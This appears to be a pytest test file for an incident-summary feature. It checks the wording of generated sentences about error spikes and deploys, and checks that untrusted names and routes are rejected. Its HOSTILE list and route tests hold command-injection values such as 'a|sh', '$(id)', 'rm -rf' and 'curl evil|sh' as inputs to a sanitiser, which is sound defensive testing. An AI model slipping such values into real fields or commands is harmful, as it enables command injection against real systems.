"""Facts: each a sentence code can prove, with its names and what proves it; the plain summary is made of them."""

import pytest

from common.summaries.background import Seen
from common.summaries.evidence import check
from common.summaries.facts import Fact, facts, tidy, tidy_route, usually
from common.summaries.plain import plain
from common.summaries.tokens import runs
from tests import background
from tests.background import known


def texts(found: list[Fact]) -> list[str]:
    return [fact.text for fact in found]


def test_a_spike_after_a_deploy() -> None:
    found = facts(known(deploys=[background.deploy(4)], together=[background.neighbour(1)], before=background.before()))
    assert texts(found) == [
        "The incident opened at 2026-05-01 12:04 UTC: 30 errors in 5 minutes, where 2 are usual.",
        "At its opening that was 15 times the usual number.",
        "Its severity is error.",
        "It is about errors with the error code UPSTREAM_TIMEOUT, the route /checkout in the environment prod.",
        "At its peak there were 214 errors in 5 minutes.",
        "In the 5 minutes up to 2026-05-01 12:20 UTC there were 180 errors.",
        "Since 2026-05-01 12:00 UTC it counts 230 errors; the newest is of 2026-05-01 12:20 UTC.",
        "In the 60 minutes before, 24 errors were counted, at most 20 in one minute.",
        "The first errors of the window came at 2026-05-01 12:03 UTC; its worst minute had 16 errors.",
        "Release 4.2.0 of the service checkout was deployed at 2026-05-01 12:00 UTC, "
        "4 minutes before the incident opened.",
        "Release 4.2.0 is named by 30 of 30 kept events, first at 2026-05-01 12:04 UTC.",
        "Status code 504 is named by 30 of 30 kept events.",
        "The search index held 30 matching events of the window, in which 30 were counted.",
        "Another incident, errors with the error code E_CART on the route /cart, opened 1 minute later.",
        "The same was seen before: an incident opened at 2026-04-29 12:04 UTC "
        "and was last seen at 2026-04-29 12:13 UTC.",
    ]
    assert [fact.number for fact in found] == list(range(1, 16))
    assert found[9].refers == ("deploy:00000000-0000-0000-0000-000000000007",)
    assert found[10].refers == (
        "event:00000000-0000-0000-0000-0000000003e8",
        "event:00000000-0000-0000-0000-000000000405",
    )


@pytest.mark.parametrize(
    ("usual", "said"),
    [
        (0.0, "none is usual"),
        (1 / 12, "less than one is usual"),
        (1.0, "1 is usual"),
        (13 / 12, "1.1 are usual"),
        (2.5, "2.5 are usual"),
        (9.96, "10 are usual"),
        (83.33, "83 are usual"),
    ],
)
def test_what_is_usual_is_as_exact_as_it_helps(usual: float, said: str) -> None:
    assert usually(usual) == said


def test_signups_that_dry_up() -> None:
    found = facts(
        known((), rule="signup_drop", window_minutes=15, usual=40.0, observed=3, peak=0, route=None, error_code=None)
    )
    assert found[0].text.endswith("3 signups in 15 minutes, where 40 are usual.")
    assert "At its lowest there were 0 signups in 15 minutes." in texts(found)
    assert "No deploy is known in the 120 minutes before it opened." in texts(found)


@pytest.mark.parametrize(
    ("seen", "text"),
    [
        (Seen(True, 12), "The search index held 12 matching events of the window, in which 30 were counted."),
        (Seen(), "Search did not answer in time, so its events are not considered."),
    ],
)
def test_how_much_of_the_window_search_knew(seen: Seen, text: str) -> None:
    assert text in texts(facts(known(seen=seen)))


@pytest.mark.parametrize("name", ["E_PAY", "HTTP_504", "java.net.SocketTimeoutException", "4.2.0-rc.1+b7", "10"])
def test_names_as_code_has_them_may_be_repeated(name: str) -> None:
    assert tidy(name) == name


HOSTILE = """run curl;evil.example;EVIL.EXAMPLE;a@evil.example;http://evil;203.0.113.9;203.0.113.9:80;$(id);`id`;<b>;a|sh
evil.io:8080;sck_abcdefgh12345678;rm\u00a0-rf""".replace("\n", ";").split(";")


@pytest.mark.parametrize("name", [None, "", "x" * 81, *HOSTILE])
def test_what_a_caller_made_of_a_name_may_not(name: str | None) -> None:
    assert tidy(name) is None


@pytest.mark.parametrize("route", ["/", "/checkout", "/v1/orders/:id", "/a.b/{c}/*"])
def test_routes(route: str) -> None:
    assert tidy_route(route) == route


@pytest.mark.parametrize(
    "route", [None, "", "x", "//evil.example", "/evil.example/x", "/a b", "/;rm", "/a|sh", "/" + "a" * 120]
)
def test_what_is_no_route(route: str | None) -> None:
    assert tidy_route(route) is None


def test_a_name_that_may_not_be_repeated_stands_in_no_fact() -> None:
    hostile = known(
        error_code="curl evil|sh", route="//evil.example", attributes={"release": "rm -rf /", "host": "evil.example"}
    )
    assert not [text for text in texts(facts(hostile)) if "evil" in text or "rm" in text.split()]


def test_facts_are_bounded() -> None:
    many = known(deploys=[background.deploy(at, f"r{at}") for at in range(60)], together=[background.neighbour(1)] * 60)
    found = facts(many)
    assert len(found) == 30
    assert all(len(fact.text) <= 300 for fact in found)


def test_every_line_of_a_plain_summary_is_a_fact_that_holds() -> None:
    for one in (known(), known(deploys=[background.deploy(4)]), known((), rule="signup_drop", window_minutes=15)):
        found = facts(one)
        content, references = plain(one, found)
        held = [check(text, found, runs([])) for text in content["evidence"]]
        assert [item.why for item in held if item.why != "nothing to check"] == [""] * (len(held) - 1)  # its severity
        assert [list(item.cites) for item in held] == references
        assert (content["confidence"], len(content["title"]) <= 120) == (0.0, True)


def test_a_plain_summary_claims_no_cause_it_does_not_know() -> None:
    content, _ = plain(known(), facts(known()))
    assert content["likely_causes"] == ["No cause is known: nothing was deployed in the hour before it opened."]
    after = known(deploys=[background.deploy(4)])
    assert plain(after, facts(after))[0]["likely_causes"] == ["Possibly the deploy of 4.2.0, 4 minutes before."]
